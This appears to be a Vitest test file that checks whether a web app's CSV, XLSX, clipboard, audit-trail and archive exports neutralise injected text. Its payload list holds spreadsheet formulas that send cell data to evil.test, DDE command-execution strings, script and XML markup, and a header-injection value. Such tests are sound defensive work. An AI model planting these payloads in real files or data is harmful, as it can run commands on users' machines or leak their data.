import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Column, columns } from '#components/table/columns';
import {
  byteOrderMark,
  csvFactsOf,
  csvRowsOf,
  htmlOfShown,
  tsvOfShown,
} from '#components/table/files/table-text';
import { workbookOfShown } from '#components/table/files/workbook';
import { entryText } from '#lib/audit/entry-text';
import type { TrailEntry } from '#lib/audit/trail';
import { trailCsv, trailXlsx } from '#lib/audit/trail-file';
import { writeArchive } from '#lib/runs/archive';
import { attachment } from '#lib/runs/file-name';
import { gather, quotedStyles, readCells, unzip } from '#lib/sheet/archive-for-tests';

/** Dangerous texts for a name or a reason: formulas, control characters, markup. */
const payloads = [
  '=1+1',
  '=HYPERLINK("http://evil.test/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")',
  '=WEBSERVICE("http://evil.test")',
  '+1+1',
  '+Plus Ltd',
  '-1+1',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u0000=1+1',
  ' =1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\u22121+1',
  '"=1+1"',
  '",=1+1,"',
  '";=1+1;"',
  "'=1+1",
  'a\r\n=1+1',
  'a",\r\n"=1+1',
  '<script>alert(1)</script>',
  '</t></is></c><c r="A9"><f>1+1</f></c>',
  '_x003D_1+1',
  ']]><f>1</f>',
  '\u202e=1+1',
  '\u001b[31m=1+1\u001b[0m',
  '%PDF-1.7\n/OpenAction',
  'x.pdf"\r\nSet-Cookie: a=1',
  '{{7*7}}#{7*7}',
  '=1+1'.padEnd(9_000, 'x'),
];

/** Parses as RFC 4180, like a spreadsheet program. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let at = text.startsWith('\ufeff') ? 1 : 0; at < text.length; at += 1) {
    const sign = text[at];
    if (quoted && sign === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (sign === '"' && (quoted || cell === '')) quoted = !quoted;
    else if (!quoted && (sign === ',' || (sign === '\r' && text[at + 1] === '\n'))) {
      rows.at(-1)?.push(cell);
      cell = '';
      if (sign === '\r') {
        rows.push([]);
        at += 1;
      }
    } else cell += sign;
  }
  return rows.slice(0, -1);
}

/** Deliberately not the product's own rule: the first character after blanks a spreadsheet would act on. */
const acts = (cell: string) =>
  /^[\s\p{Cc}\u200b\u202e\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\u2212]/u.test(cell) || /^\p{Cc}/u.test(cell);

/** For every cell of every sheet: no formula, typed as text, risky ones marked as typed in. */
function expectInert(archive: Buffer): void {
  const parts = unzip(archive);
  let texts = 0;
  const quoted = quotedStyles(parts.get('xl/styles.xml')?.toString() ?? '');
  for (const [name, part] of parts) {
    const xml = part.toString();
    expect(xml).not.toMatch(/<f[ >]|<hyperlink|<externalLink|<oleObject/);
    expect([...xml].every((sign) => sign >= ' ' || '\t\n\r'.includes(sign))).toBe(true);
    if (!name.includes('worksheets/')) continue;
    for (const { type, style, value } of readCells(xml).values()) {
      if (type !== 'inlineStr') continue;
      texts += 1;
      if (acts(value)) expect([value, quoted.has(style)]).toEqual([value, true]);
    }
  }
  expect(texts).toBeGreaterThan(8);
}

type Row = { id: string; name: string; kind: string; day: string; count: string };
const kit: readonly Column<Row>[] = [
  columns.text('name', 'Name', (row) => row.name),
  columns.link(
    'id',
    'Account',
    (row) => row.id,
    () => null,
  ),
  columns.badge('kind', 'Kind', (row) => row.kind, {}),
  columns.date('day', 'Day', (row) => row.day),
  columns.shares('count', 'Shares', (row) => row.count),
  columns.percent('percent', '%', (row) => row.count),
  columns.money('money', '$', (row) => row.count),
];
const rowOf = (text: string): Row => ({ id: text, name: text, kind: text, day: text, count: text });

const entryOf = (text: string): TrailEntry => ({
  seq: '7',
  at: '2026-11-20T00:00:00Z',
  recorded: '2026-11-20 00:00:00',
  person: text,
  email: text,
  action: text,
  words: entryText({
    action: text,
    outcome: 'refused',
    endpoint: text,
    object: text,
    detail: { code: text },
  }),
  outcome: text,
  endpoint: text,
  issuer: 1001,
  object: text,
  about: text,
  address: text,
  effectiveDate: text,
  before: { [text]: text },
  after: { name: text },
  detail: { reason: text },
  requestId: text,
  hash: text,
});
async function* entries(text: string) {
  yield entryOf(text);
}

const shortened = (text: string) => text.slice(0, 40);
const cases = payloads.map((text) => [JSON.stringify(shortened(text)), text] as const);
const facts = (text: string) => [['Filter', text] as const];

describe('table export', () => {
  const shown = (text: string) => ({
    label: 'Holders',
    columns: kit,
    rows: [rowOf(text)],
    facts: facts(text),
  });

  test.each(cases)('CSV of %s', (_name, text) => {
    const rows = readCsv([byteOrderMark, ...csvRowsOf(shown(text)), csvFactsOf(facts(text))].join(''));
    expect(rows[0]).toHaveLength(kit.length);
    expect(rows[1]).toHaveLength(kit.length);
    for (const cell of rows.flat()) expect([cell, acts(cell)]).toEqual([cell, false]);
    // Equal to the register except for the leading quote.
    expect(rows[1]?.[0]?.replace(/^'/, '')).toBe(text.replace(/^'/, ''));
  });

  test.each(cases)('XLSX of %s', async (_name, text) => {
    const book = await gather(workbookOfShown(shown(text), '2026-11-20'));
    expectInert(book);
  });

  test.each(cases)('clipboard with %s', (_name, text) => {
    const lines = tsvOfShown(shown(text)).split('\n');
    expect(lines).toHaveLength(2);
    for (const cell of lines[1]?.split('\t') ?? []) expect([cell, acts(cell)]).toEqual([cell, false]);
    expect(htmlOfShown(shown(text))).not.toMatch(/<script|<f>|<img/i);
  });
});

describe('audit trail export', () => {
  test.each(cases)('CSV of %s', async (_name, text) => {
    const rows = readCsv((await gather(trailCsv(entries(text), facts(text)))).toString('utf8'));
    expect(rows).toHaveLength(4);
    expect(rows[1]).toHaveLength(17);
    for (const cell of rows.flat()) expect([cell, acts(cell)]).toEqual([cell, false]);
  });

  test.each(cases)('XLSX of %s', async (_name, text) => {
    expectInert(await gather(trailXlsx(entries(text), facts(text), '2026-11-20')));
  });
});

describe('archives and headers', () => {
  let folder: string;
  let path: string;
  const bytes = Buffer.from('%PDF-1.7');
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'inert-'));
    path = join(folder, 'file');
    writeFileSync(path, bytes);
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  test.each(cases)('manifest with %s', async (_name, text) => {
    const about = {
      issuer: 1001,
      issuerName: text,
      report: text,
      title: text,
      inputs: { [text]: text, list: [text] },
    };
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    const file = {
      ...about,
      name: 'List_1001.pdf',
      path,
      asOf: text,
      bytes: bytes.length,
      sha256,
      contentSha256: null,
      run: 'r',
    };
    const gap = { ...about, run: null, code: text, reason: text };
    const head = { batch: 'b', madeFor: text, day: '2026-11-20', environment: text };
    const parts = unzip(await gather(writeArchive({ ...head, files: [file], failed: [gap] })));
    expect([...parts.keys()]).toEqual(['manifest.json', 'manifest.txt', 'List_1001.pdf']);
    expect(JSON.parse(parts.get('manifest.json')?.toString() ?? '')).toMatchObject({ madeFor: text });
    const lines = (parts.get('manifest.txt')?.toString() ?? '').split('\r\n');
    // One line per fact: a text can neither add lines nor send control characters to a terminal.
    expect(lines).toHaveLength(17);
    expect(lines.join('')).not.toMatch(/[\p{Cc}\u202e]/u);
  });

  test.each(cases)('file name %s', (_name, text) => {
    const header = attachment(text);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is looked for
    expect(header).not.toMatch(/[\u0000-\u001f\u007f-\uffff]/);
    expect(new Headers({ 'content-disposition': header }).get('content-disposition')).toBe(header);
  });
});

test('there are at least forty payloads', () => {
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(40);
});
